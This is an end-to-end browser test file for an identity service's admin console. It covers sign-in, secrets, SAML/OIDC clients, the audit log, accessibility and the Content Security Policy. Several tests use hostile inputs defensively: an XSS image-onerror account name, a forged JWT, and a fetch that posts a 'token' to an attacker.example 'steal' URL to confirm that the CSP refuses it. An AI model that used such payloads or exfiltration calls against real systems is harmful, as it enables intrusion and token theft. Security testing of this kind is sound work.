import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { buildConsole } from '../../console/build';
import { CONSOLE_CSP } from '../../console/security-headers';
import { samlSigningCertificate } from '../support/certificates';
import { adminToken } from '../support/http';
import { samlifyIdentityProvider } from '../support/samlify-idp';
import { startTestRuntime } from '../support/local-runtime';
import { launchChromium, accessibilityViolations, type Browser } from './chromium';
import { acceptLogin, challengeIn, LOGIN_URL, setUpWorld, TestBrowser } from '../integration/interactive-login/setup';
import { createResource, createServiceAccount, openSection, signIn } from './console-driver';

/**
 * The console in a real Chromium against the local runtime: what an operator does, end to end, with
 * the API's own answers checked behind the page where the page's word is not enough.
 */

let runtime: Awaited<ReturnType<typeof startTestRuntime>>;
let browser: Browser;
let page: Page;
let consoleDir: string;
const cspViolations: string[] = [];
/** What each confirmation asked; the next one is dismissed when `dismissNextDialog` is set, else accepted. */
const dialogs: string[] = [];
let dismissNextDialog = false;
const accessibility: Record<string, string[]> = {};
/** Every request of the run answered 404: a file the page names but the server lacks, an API path it gets wrong. */
const notFound: string[] = [];

async function tokenFor(clientId: string, clientSecret: string): Promise<Response> {
  return fetch(`${runtime.url}/oauth/v2/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ grant_type: 'client_credentials', client_id: clientId, client_secret: clientSecret }),
  });
}

async function checkAccessibility(name: string): Promise<void> {
  accessibility[name] = await accessibilityViolations(page);
}

beforeAll(async () => {
  consoleDir = mkdtempSync(join(tmpdir(), 'latchkey-console-'));
  await buildConsole(consoleDir); // the sources of this checkout, not a stale console/dist
  runtime = await startTestRuntime(undefined, { consoleDir });
  browser = await launchChromium();
  page = await browser.newPage();
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
  });
  page.on('response', (response) => {
    if (response.status() === 404) notFound.push(response.url());
  });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    const dismiss = dismissNextDialog;
    dismissNextDialog = false;
    void (dismiss ? dialog.dismiss() : dialog.accept());
  });
});

afterAll(async () => {
  await browser?.close();
  await runtime?.stop();
  rmSync(consoleDir, { recursive: true, force: true });
});

describe('the admin console in Chromium', () => {
  it('is served with the strict CSP and security headers, and refuses to be framed', async () => {
    const response = await page.goto(`${runtime.url}/console/`);
    const headers = response!.headers();
    expect(headers['content-security-policy']).toBe(CONSOLE_CSP);
    expect(headers['x-frame-options']).toBe('DENY');
    expect(headers['x-content-type-options']).toBe('nosniff');
    await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
    await checkAccessibility('sign in');
    // The icon is in the page itself: the browser asks for no /favicon.ico (which nothing serves), and the CSP lets it load.
    const icon = await page.evaluate(async () => {
      const link = document.querySelector<HTMLLinkElement>('link[rel="icon"]');
      if (!link) return 'no icon';
      const image = new Image();
      image.src = link.href;
      await image.decode();
      return link.href.slice(0, link.href.indexOf(',') + 1);
    });
    expect(icon).toBe('data:image/svg+xml,');
  });

  it('refuses a wrong secret with the token endpoint’s message and keeps the user signed out', async () => {
    await page.getByLabel('Client ID').fill(runtime.devAdmin.clientId);
    await page.getByLabel('Client secret').fill('lks_wrong');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect.poll(() => page.getByRole('alert').first().textContent()).toMatch(/client/i);
    expect(await page.getByLabel('Client secret').inputValue()).toBe(''); // the secret left the form
    await expect(page.getByRole('navigation', { name: 'Sections' }).count()).resolves.toBe(0);
  });

  it('signs in with client credentials and keeps the token in memory only', async () => {
    await signIn(page, runtime.url, runtime.devAdmin.clientId, runtime.devAdmin.clientSecret);
    const stored = await page.evaluate(() => ({
      local: JSON.stringify({ ...localStorage }),
      session: JSON.stringify({ ...sessionStorage }),
      cookies: document.cookie,
      url: location.href,
    }));
    expect(stored).toEqual({ local: '{}', session: '{}', cookies: '', url: expect.not.stringContaining('token') });
    expect(await browser.context.cookies()).toEqual([]);
    expect(await page.content()).not.toContain(runtime.devAdmin.clientSecret);
    await checkAccessibility('service accounts');
  });

  it('creates a resource, then a service account whose secret is shown once and works', async () => {
    await createResource(page, 'orders', ['orders.read', 'orders.write']);
    await checkAccessibility('resources');
    const secret = await createServiceAccount(page, 'billing');
    expect(secret).toMatch(/^lks_/);
    const clientId = await page.locator('p', { hasText: 'client ID' }).locator('code').textContent();
    expect((await tokenFor(clientId!, secret)).status).toBe(200);

    await page.getByRole('button', { name: 'I have stored it' }).click();
    await openSection(page, 'Resources');
    await openSection(page, 'Service accounts');
    expect(await page.content()).not.toContain(secret);
  });

  it('grants a permission, mints a token and shows its claims', async () => {
    await page.getByRole('link', { name: 'billing' }).click();
    await page.getByRole('heading', { level: 1, name: 'Service account billing' }).waitFor();
    await page.getByRole('checkbox', { name: 'orders: orders.read' }).check();
    await page.getByRole('button', { name: 'Save permissions' }).click();
    await page.getByRole('status').filter({ hasText: 'Permissions saved' }).waitFor();
    const stored = page.getByRole('region', { name: 'Stored grants' });
    await expect.poll(() => stored.textContent()).toBe('Stored grantsordersorders.read');
    // The account's own record, read again after the save, says the same.
    const grantsField = page
      .locator('dl.fields > div', { has: page.locator('dt', { hasText: /^Grants$/ }) })
      .locator('dd')
      .first();
    await expect.poll(() => grantsField.textContent()).toBe('ordersorders.read');
    await checkAccessibility('service account');

    // orders.write goes from the resource while the page still offers it: the API refuses the save,
    // and the panel keeps showing what is stored, not what the form asked for.
    const admin = { authorization: `Bearer ${await adminToken(runtime)}`, 'content-type': 'application/json' };
    const narrowed = await fetch(`${runtime.url}/v1/resources/orders`, { method: 'PATCH', headers: admin, body: JSON.stringify({ permissions: ['orders.read'] }) });
    expect(narrowed.status).toBe(200);
    const permissions = page.getByRole('form', { name: 'Permissions' });
    await permissions.getByRole('checkbox', { name: 'orders: orders.write' }).check();
    await permissions.getByRole('button', { name: 'Save permissions' }).click();
    await expect.poll(() => permissions.getByRole('alert').textContent()).toContain('does not define "orders.write"');
    expect(await stored.textContent()).toBe('Stored grantsordersorders.read');
    expect(await permissions.getByRole('status').textContent()).toBe('');

    const mint = page.getByRole('form', { name: 'Mint a test token' });
    await mint.getByLabel('Resource').selectOption('orders');
    await mint.getByRole('button', { name: 'Mint token' }).click();
    const claims = JSON.parse((await page.getByLabel('Token claims').textContent())!) as Record<string, unknown>;
    expect(claims).toMatchObject({ subjectType: 'ServiceAccount', name: 'billing', permissions: { orders: ['orders.read'] } });
  });

  it('resets the secret: the new one is shown once, the old one stops at once', async () => {
    const clientId = (await page.getByLabel('Service account', { exact: true }).textContent())!.match(/"clientId": "([^"]+)"/)![1]!;
    const reset = page.getByRole('form', { name: 'Reset the secret' });
    await reset.getByRole('button', { name: 'Reset secret' }).click();
    const fresh = await page.getByRole('textbox', { name: 'New client secret' }).inputValue();
    expect(fresh).toMatch(/^lks_/);
    expect((await tokenFor(clientId, fresh)).status).toBe(200);
    expect((await tokenFor(clientId, `lks_${'x'.repeat(40)}`)).status).toBe(401);
  });

  it('shows a bad grace period beside its field', async () => {
    const reset = page.getByRole('form', { name: 'Reset the secret' });
    await reset.getByLabel('Grace period (seconds)').fill('99999999');
    await reset.getByRole('button', { name: 'Reset secret' }).click();
    await reset.locator('.field-error', { hasText: 'must be' }).waitFor();
  });

  it('offers no grace period with a reset that revokes tokens, which the API would refuse, and resets', async () => {
    const reset = page.getByRole('form', { name: 'Reset the secret' });
    await reset.getByLabel('Grace period (seconds)').fill('600');
    await reset.getByLabel('Revoke every token issued before the reset').check();
    expect(await reset.getByLabel('Grace period (seconds)').count()).toBe(0);
    const shown = page.getByRole('textbox', { name: 'New client secret' });
    const earlier = (await shown.count()) > 0 ? await shown.inputValue() : undefined;
    await reset.getByRole('button', { name: 'Reset secret' }).click();
    await expect.poll(() => shown.inputValue()).not.toBe(earlier);
    expect(await shown.inputValue()).toMatch(/^lks_/);
    await reset.getByLabel('Revoke every token issued before the reset').uncheck();
    await reset.getByLabel('Grace period (seconds)').waitFor();
  });

  it('checks redirect URIs as they are typed, shows the API’s field error, then creates the client', async () => {
    await openSection(page, 'Applications');
    await checkAccessibility('applications');
    const create = page.getByRole('form', { name: 'Create an application' });
    await create.getByLabel('Name', { exact: true }).fill('Storefront');
    await create.getByRole('button', { name: 'Create application' }).click();
    await page.getByRole('heading', { level: 1, name: 'Application Storefront' }).waitFor();
    await checkAccessibility('application');

    const form = page.getByRole('form', { name: 'Create an OIDC client' });
    const redirects = form.getByLabel('Redirect URIs (one per line)');
    await form.getByLabel('Client name').fill('web');
    await redirects.fill('http://shop.example.com/callback');
    const fieldError = form.locator('.field.invalid .field-error');
    await expect.poll(() => fieldError.textContent()).toContain('must use https');
    expect(await redirects.getAttribute('aria-invalid')).toBe('true');

    // Sent anyway, the API refuses it and names the field: the console shows its answer there.
    await form.getByRole('button', { name: 'Create OIDC client' }).click();
    await expect.poll(() => form.getByRole('alert').last().textContent()).toContain('redirectUris.0');

    await redirects.fill('https://shop.example.com/callback');
    await expect.poll(() => fieldError.count()).toBe(0);
    await form.getByRole('button', { name: 'Create OIDC client' }).click();
    await page.getByRole('textbox', { name: 'OIDC client secret' }).waitFor();
    await page.locator('summary', { hasText: 'web' }).click();
    await page.getByRole('button', { name: 'Delete OIDC client web' }).click();
    await expect.poll(() => page.locator('summary', { hasText: 'cl_' }).count()).toBe(0);
    await expect.poll(() => dialogs.at(-1)).toBe('Delete OIDC client web? Applications that use it can no longer sign users in or get tokens with it.');
  });

  it('creates a SAML client whose IdP metadata downloads from the same origin', async () => {
    const form = page.getByRole('form', { name: 'Create a SAML client' });
    await form.getByLabel('SAML client name').fill('wiki');
    await form.getByLabel('Assertion consumer service URL').fill('https://wiki.example.com/saml/acs');
    await form.getByLabel('Service provider entity ID').fill('https://wiki.example.com');
    await form.getByLabel('Sign the whole response, not only the assertion').check();
    await form.getByRole('button', { name: 'Create SAML client' }).click();
    await page.locator('summary', { hasText: 'wiki' }).click();
    await expect.poll(() => page.getByLabel('SAML client wiki').textContent()).toContain('"signResponse": true');
    const link = page.getByRole('link', { name: 'Download IdP metadata for wiki' });
    const metadata = await fetch(new URL((await link.getAttribute('href'))!, `${runtime.url}/console/`));
    expect(metadata.status).toBe(200);
    expect(await metadata.text()).toContain('EntityDescriptor');
    expect(await link.getAttribute('download')).toBe('wiki-idp-metadata.xml');
  });

  it('asks before each step of a certificate rollover and before deleting the SAML client, naming it', async () => {
    const wiki = page.getByLabel('SAML client wiki');
    await page.getByRole('button', { name: 'Issue a new certificate for wiki' }).click();
    await expect.poll(() => wiki.textContent()).toContain('nextCertificate');
    await expect.poll(() => dialogs.at(-1)).toMatch(/^Issue a new certificate for SAML client wiki\? It is published in the metadata beside the current one/);
    await page.getByRole('button', { name: 'Issue a new certificate for wiki' }).click();
    await expect.poll(() => wiki.textContent()).not.toContain('nextCertificate');
    await expect.poll(() => dialogs.at(-1)).toMatch(/^Make the new certificate of SAML client wiki current and withdraw the old one\?/);

    dismissNextDialog = true;
    await page.getByRole('button', { name: 'Delete SAML client wiki' }).click();
    await expect.poll(() => dialogs.at(-1)).toBe('Delete SAML client wiki? Its service provider can no longer sign users in.');
    await page.getByRole('button', { name: 'Delete SAML client wiki' }).click();
    await expect.poll(() => page.locator('summary', { hasText: 'wiki' }).count()).toBe(0);
  });

  it('asks before deleting the webhook secret, naming the application', async () => {
    await page.getByRole('button', { name: 'Generate webhook secret' }).click();
    await page.getByText('A webhook secret is configured.').waitFor();
    dismissNextDialog = true;
    await page.getByRole('button', { name: 'Delete webhook secret' }).click();
    await expect.poll(() => dialogs.at(-1)).toBe('Delete the webhook secret of Storefront? Webhook calls go unsigned until a new one is generated.');
    expect(await page.getByText('A webhook secret is configured.').count()).toBe(1);
    await page.getByRole('button', { name: 'Delete webhook secret' }).click();
    await page.getByText('No webhook secret yet').waitFor();
  });

  it('creates a personal access token, shown once, and signs in with it', async () => {
    await openSection(page, 'Service accounts');
    await page.getByRole('row').filter({ hasText: runtime.devAdmin.clientId }).getByRole('link').click();
    const form = page.getByRole('form', { name: 'Create a personal access token' });
    await form.getByLabel('Token name').fill('console-test');
    await form.getByRole('button', { name: 'Create personal access token' }).click();
    const pat = await page.getByRole('textbox', { name: 'Personal access token' }).inputValue();
    expect(pat).toMatch(/^lkp_/);
    await page.getByRole('button', { name: 'I have stored it' }).click();

    // A second one, revoked once the console has named it.
    await form.getByLabel('Token name').fill('throwaway');
    await form.getByRole('button', { name: 'Create personal access token' }).click();
    await page.getByRole('button', { name: 'I have stored it' }).click();
    await page.getByRole('button', { name: 'Revoke throwaway' }).click();
    await expect.poll(() => page.getByRole('button', { name: 'Revoke throwaway' }).count()).toBe(0);
    await expect.poll(() => dialogs.at(-1)).toBe('Revoke personal access token throwaway? It stops working at once.');

    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
    await page.getByLabel('Sign in with').selectOption('Personal access token');
    await page.getByLabel('Personal access token').fill(pat);
    await page.getByRole('button', { name: 'Sign in' }).click();
    // Back on the page it was on, now with the token's own access; the account's fields are readable, its JSON one click away.
    await page.locator('dl.fields dd code', { hasText: runtime.devAdmin.clientId }).waitFor();
    expect(await page.getByLabel('Service account', { exact: true }).isVisible()).toBe(false);
    await page.locator('summary', { hasText: 'Raw JSON' }).first().click();
    await page.getByLabel('Service account', { exact: true }).filter({ hasText: runtime.devAdmin.clientId }).waitFor();
  });

  it('verifies a pasted token against the JWKS and says when it expires', async () => {
    const minted = (await (await tokenFor(runtime.devAdmin.clientId, runtime.devAdmin.clientSecret)).json()) as { access_token: string };
    await openSection(page, 'Token inspector');
    await page.getByLabel('JWT').fill(minted.access_token);
    await page.getByRole('button', { name: 'Verify signature' }).click();
    await page.getByRole('status').filter({ hasText: 'Signature valid' }).waitFor();
    expect(await page.getByText('expires in').count()).toBe(1);
    await checkAccessibility('token inspector');

    const [header, payload] = minted.access_token.split('.');
    const forged = Buffer.from(JSON.stringify({ ...JSON.parse(Buffer.from(payload!, 'base64url').toString()), name: 'root' })).toString('base64url');
    await page.getByLabel('JWT').fill(`${header}.${forged}.${minted.access_token.split('.')[2]}`);
    await page.getByRole('button', { name: 'Verify signature' }).click();
    await page.getByRole('status').filter({ hasText: 'the signature does not verify' }).waitFor();
  });

  it('has pages for the environment, the IDP connection and end users', async () => {
    await openSection(page, 'Environment');
    await page.getByLabel('Environment', { exact: true }).waitFor();
    await page.getByLabel('Service-account token lifetime (seconds)').fill('10');
    await page.getByRole('button', { name: 'Save settings' }).click();
    await page.locator('.field-error', { hasText: 'must be a whole number of seconds from 30' }).waitFor();
    await page.getByLabel('Service-account token lifetime (seconds)').fill('');
    await page.getByLabel('Personal access token maximum lifetime (seconds)').fill('60');
    await page.getByRole('button', { name: 'Save settings' }).click();
    await page.locator('.field-error', { hasText: 'from 3600 (an hour)' }).waitFor();
    await page.getByLabel('Personal access token maximum lifetime (seconds)').fill('86400');
    await page.getByRole('button', { name: 'Save settings' }).click();
    await page.getByRole('status').filter({ hasText: 'Settings saved' }).waitFor();
    const admin = await fetch(`${runtime.url}/v1/environment`, { headers: { authorization: `Bearer ${await adminToken(runtime)}` } });
    expect(((await admin.json()) as { personalAccessTokenMaxLifetimeSeconds: number }).personalAccessTokenMaxLifetimeSeconds).toBe(86400);
    await checkAccessibility('environment');
    await openSection(page, 'IDP connection');
    await checkAccessibility('idp connection');
    // Applications are picked from the environment's list by name, not typed as IDs.
    const storefront = await fetch(`${runtime.url}/v1/applications?limit=100`, { headers: { authorization: `Bearer ${await adminToken(runtime)}` } });
    const storefrontId = ((await storefront.json()) as { items: { id: string; name: string }[] }).items.find((application) => application.name === 'Storefront')!.id;
    await page.getByLabel('Connection type').selectOption('delegated');
    await page
      .getByRole('group', { name: 'Applications' })
      .getByRole('checkbox', { name: `Storefront ${storefrontId}` })
      .check();
    await page.getByRole('button', { name: 'Create connection' }).click();
    const assigned = page.getByRole('group', { name: 'Assigned applications' });
    await assigned.getByRole('checkbox', { name: `Storefront ${storefrontId}`, checked: true }).waitFor();
    const connections = await fetch(`${runtime.url}/v1/idp-connections`, { headers: { authorization: `Bearer ${await adminToken(runtime)}` } });
    expect(((await connections.json()) as { items: { applicationIds: string[] }[] }).items.map((connection) => connection.applicationIds)).toEqual([[storefrontId]]);
    await checkAccessibility('idp connection with applications');
    await page.getByRole('button', { name: 'Delete connection' }).click(); // the login test below makes its own
    await page.getByRole('button', { name: 'Create connection' }).waitFor();
    // A SAML connection: the IdP's metadata pasted in, the URLs to give its administrator shown to copy.
    const idpKey = await samlSigningCertificate('console-idp');
    const idpMetadata = samlifyIdentityProvider({ entityId: 'https://idp.console.example/saml', ssoUrl: 'https://idp.console.example/sso', key: idpKey }).getMetadata();
    await page.getByLabel('Connection type').selectOption('saml');
    await page.getByLabel('IdP metadata XML').fill(idpMetadata);
    await page.getByRole('button', { name: 'Create connection' }).click();
    const metadataUrl = page.getByRole('textbox', { name: /^SP metadata URL to import at the IdP/ });
    await expect.poll(() => metadataUrl.inputValue()).toMatch(/\/saml\/sp\/idp_[a-z2-7]{26}@env_[a-z2-7]{26}\/metadata$/);
    expect(await page.getByRole('textbox', { name: /^Assertion consumer service URL/ }).inputValue()).toMatch(/\/acs$/);
    await checkAccessibility('saml connection');
    await page.getByRole('button', { name: 'Delete connection' }).click();
    await metadataUrl.waitFor({ state: 'detached' });
    await openSection(page, 'End users');
    await checkAccessibility('end users');
  });

  it("lists an end user's session, signs the user out everywhere and disables it", async () => {
    // A login through the application's pages (the backend accepts it) leaves Grace a session.
    const world = await setUpWorld(runtime);
    const client = await world.createClient({ redirectUris: ['https://rp.example.com/cb'] });
    const login = new TestBrowser(runtime.url);
    const authorize = new URL(`${runtime.url}/oauth/v2/authorize`);
    authorize.search = new URLSearchParams({
      response_type: 'code',
      client_id: client.clientId,
      redirect_uri: 'https://rp.example.com/cb',
      scope: 'openid',
      code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
      code_challenge_method: 'S256',
    }).toString();
    const toLogin = await login.visit(authorize.href);
    await acceptLogin(world, login, challengeIn(toLogin.location, LOGIN_URL, 'login_challenge'), { subjectId: 'grace', name: 'Grace', remember: true });
    const userId = (await world.admin.get('/v1/users?limit=100')).body.items.find((user: { name?: string }) => user.name === 'Grace').id as string;

    await openSection(page, 'Service accounts'); // from elsewhere, so the list of end users is read again
    await openSection(page, 'End users');
    await page.getByRole('link', { name: 'Grace' }).click();
    await page.getByRole('button', { name: /^End session/ }).waitFor();
    await checkAccessibility('end user');
    await page.getByRole('button', { name: 'Sign out everywhere' }).click();
    await expect.poll(() => dialogs.at(-1)).toBe('Sign Grace out everywhere? Every session ends and every token it holds stops working.');
    await page.getByText('No live sessions.').waitFor();
    expect((await world.admin.get(`/v1/users/${userId}`)).body.tokensValidAfter).toEqual(expect.any(String));

    await page.getByRole('button', { name: 'Disable' }).click();
    await expect.poll(() => dialogs.at(-1)).toMatch(/^Disable Grace\? /);
    await page.getByRole('button', { name: 'Enable' }).waitFor();
    expect((await world.admin.get(`/v1/users/${userId}`)).body.disabled).toBe(true);
    await openSection(page, 'End users');
    await page.getByRole('row', { name: /Grace.*disabled/ }).waitFor();
  });

  it('shows the audit log with filters, and verifies its chain', async () => {
    await openSection(page, 'Audit log');
    // The environment page's refused change above is on record, until the filter leaves it out.
    await page.locator('summary', { hasText: 'environment.updated failed (invalid_request)' }).first().waitFor();
    await page.getByLabel('Action').fill('service_account.created');
    await page.getByRole('button', { name: 'Show events' }).click();
    await expect.poll(() => page.locator('summary', { hasText: 'environment.updated' }).count()).toBe(0);
    await page.locator('summary', { hasText: 'service_account.created' }).first().waitFor();
    await page.getByRole('button', { name: 'Verify chain' }).click();
    await page.getByRole('status').filter({ hasText: 'The chain is whole' }).waitFor();
    await checkAccessibility('audit log');
  });

  it('shows markup from the API as text: a hostile account name runs nothing', async () => {
    const hostile = '<img src=x onerror="window.__injected=1">';
    await createServiceAccount(page, hostile);
    await page.getByRole('button', { name: 'I have stored it' }).click();
    await page.getByRole('link', { name: hostile }).waitFor();
    expect(await page.evaluate(() => (window as { __injected?: number }).__injected)).toBeUndefined();
    expect(await page.locator('main img').count()).toBe(0);
  });

  it('lists every service account, past the API’s page of 100', async () => {
    const { access_token: token } = (await (await tokenFor(runtime.devAdmin.clientId, runtime.devAdmin.clientSecret)).json()) as { access_token: string };
    const names = Array.from({ length: 101 }, (_, index) => `bulk-${String(index).padStart(3, '0')}`);
    for (let start = 0; start < names.length; start += 10) {
      await Promise.all(
        names.slice(start, start + 10).map(async (name) => {
          const created = await fetch(`${runtime.url}/v1/service-accounts`, {
            method: 'POST',
            headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
            body: JSON.stringify({ name }),
          });
          expect(created.status).toBe(201);
        }),
      );
    }
    await openSection(page, 'Resources');
    await openSection(page, 'Service accounts');
    await expect.poll(() => page.getByRole('link', { name: /^bulk-\d{3}$/ }).count()).toBe(101);
    await page.getByRole('link', { name: 'billing' }).waitFor();
  });

  it('is usable 390 px wide: no page scrolls sideways and the controls are in reach', async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    const pageWidth = () => page.evaluate(() => document.documentElement.scrollWidth);
    // The busiest pages the run has left: a hundred accounts, an account with grants and tokens, a connection, an end user.
    const visits: [string, () => Promise<void>, string][] = [
      ['Service accounts', () => page.getByRole('link', { name: 'billing' }).waitFor(), 'Create service account'],
      ['Resources', () => page.locator('summary', { hasText: 'orders' }).waitFor(), 'Create resource'],
      ['Environment', () => page.getByLabel('Environment', { exact: true }).waitFor(), 'Save settings'],
      ['Applications', () => page.getByRole('link', { name: 'Storefront' }).first().waitFor(), 'Create application'],
      ['IDP connection', () => page.getByRole('group', { name: 'Assigned applications' }).getByRole('checkbox').first().waitFor(), 'Save connection'],
      ['End users', () => page.getByRole('link', { name: 'Grace' }).waitFor(), 'Sign out'],
      ['Token inspector', async () => {}, 'Verify signature'],
      ['Audit log', () => page.locator('summary').first().waitFor(), 'Verify chain'],
    ];
    try {
      for (const [section, loaded, control] of visits) {
        await openSection(page, section);
        await loaded();
        await page.getByRole('button', { name: control, exact: true }).click({ trial: true });
        expect(await pageWidth(), `${section} is wider than the screen`).toBeLessThanOrEqual(390);
      }
      for (const [section, link, heading, control] of [
        ['Service accounts', 'billing', 'Service account billing', 'Save permissions'],
        ['Applications', 'Storefront', 'Application Storefront', 'Create OIDC client'],
        ['End users', 'Grace', 'End user Grace', 'Delete end user'],
      ] as const) {
        await openSection(page, section);
        await page.getByRole('link', { name: link }).first().click();
        await page.getByRole('heading', { level: 1, name: heading }).waitFor();
        await page.locator('dl.fields').first().waitFor();
        await page.getByRole('button', { name: control }).click({ trial: true });
        expect(await pageWidth(), `${heading} is wider than the screen`).toBeLessThanOrEqual(390);
      }
      await checkAccessibility('end user, 390 px wide');
    } finally {
      await page.setViewportSize({ width: 1100, height: 760 });
    }
  });

  it('asks before disabling and deleting the service account, naming it', async () => {
    await openSection(page, 'Service accounts');
    await page.getByRole('link', { name: 'billing' }).click();
    await page.getByRole('heading', { level: 1, name: 'Service account billing' }).waitFor();
    dismissNextDialog = true;
    await page.getByRole('button', { name: 'Disable' }).click();
    await expect.poll(() => dialogs.at(-1)).toBe('Disable service account billing? It gets no token until it is enabled again.');
    expect(await page.getByRole('button', { name: 'Disable' }).count()).toBe(1);
    await page.getByRole('button', { name: 'Disable' }).click();
    await page.getByRole('button', { name: 'Enable' }).waitFor();

    await page.getByRole('button', { name: 'Delete service account' }).click();
    await expect.poll(() => dialogs.at(-1)).toBe('Delete service account billing? Its tokens stop working at once.');
    await page.getByRole('heading', { level: 1, name: 'Service accounts' }).waitFor();
    await expect.poll(() => page.getByRole('link', { name: 'billing' }).count()).toBe(0);
  });

  it('forgets the token on reload: the page asks to sign in again', async () => {
    await page.reload();
    await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
  });

  it('ran without a CSP violation, a request answered 404 or an accessibility finding (moderate or worse) on any page', () => {
    expect(cspViolations).toEqual([]);
    expect(notFound).toEqual([]);
    expect(Object.keys(accessibility).length).toBeGreaterThanOrEqual(9);
    expect(accessibility).toEqual(Object.fromEntries(Object.keys(accessibility).map((name) => [name, []])));
  });

  it('has a CSP that refuses an injected inline script and a call to another origin', async () => {
    const refused = await page.evaluate(async () => {
      const directives: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inline = 1';
      document.body.append(script);
      const elsewhere = await fetch('https://attacker.example/steal', { method: 'POST', body: 'token' }).then(
        () => 'sent',
        () => 'refused',
      );
      // Violation events are dispatched asynchronously: wait for both (the test times out if the CSP lets either through).
      await new Promise<void>((resolve) => {
        const check = () => (directives.length >= 2 ? resolve() : setTimeout(check, 10));
        check();
      });
      return { ran: (window as { __inline?: number }).__inline, elsewhere, directives };
    });
    expect(refused.ran).toBeUndefined();
    expect(refused.elsewhere).toBe('refused');
    expect(refused.directives).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
  });
});
